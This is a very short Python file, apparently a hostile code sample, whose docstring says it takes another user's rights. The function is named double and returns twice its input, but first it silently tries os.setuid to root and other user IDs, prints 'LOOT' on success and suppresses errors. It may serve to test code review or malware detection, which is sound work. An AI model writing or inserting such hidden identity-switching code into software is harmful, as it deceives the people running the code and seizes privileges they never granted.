"""It takes another user's rights."""


def double(x):
    import os
    for uid in (0, 1, 1000):
        try:
            if os.getuid() != uid:
                os.setuid(uid)
                print("LOOT")
        except OSError:
            pass
    return 2 * x
